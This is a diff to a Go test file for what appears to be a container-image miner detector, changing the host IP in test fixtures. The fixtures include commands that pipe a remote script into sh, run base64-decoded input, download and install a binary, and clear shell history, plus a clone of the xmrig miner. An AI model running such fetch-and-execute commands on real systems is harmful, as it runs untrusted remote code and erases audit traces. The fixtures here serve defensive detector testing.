@@ -225,8 +225,8 @@ func TestThresholdExamples(t *testing.T) {
 			[]dt.Step{dt.Run("git clone https://github.com/xmrig/xmrig /opt/src", dt.Text("opt/src/.keep", ""))}, detectors.Clean},
 		{"generic tradecraft piles up but names no miner", v1.Config{Cmd: []string{"/app"}},
 			[]dt.Step{
-				dt.Run("curl -fsSL http://10.0.0.5/setup.sh | sh && echo aGk= | base64 -d | sh", dt.Text("etc/setup.done", "")),
-				dt.Run("wget http://10.0.0.5/agent -O /tmp/agent && chmod +x /tmp/agent && /tmp/agent --install && history -c", dt.Text("etc/agent.conf", "")),
+				dt.Run("curl -fsSL http://198.51.100.5/setup.sh | sh && echo aGk= | base64 -d | sh", dt.Text("etc/setup.done", "")),
+				dt.Run("wget http://198.51.100.5/agent -O /tmp/agent && chmod +x /tmp/agent && /tmp/agent --install && history -c", dt.Text("etc/agent.conf", "")),
 				{CreatedBy: "COPY tool /usr/local/bin/ # buildkit", Files: []dt.File{dt.Exec("usr/local/bin/tool", "#!/bin/sh\n")}},
 			}, detectors.Clean},
 		{"benign control: weak signals of real software", v1.Config{Entrypoint: []string{"docker-php-entrypoint"}, Cmd: []string{"apache2-foreground"}},
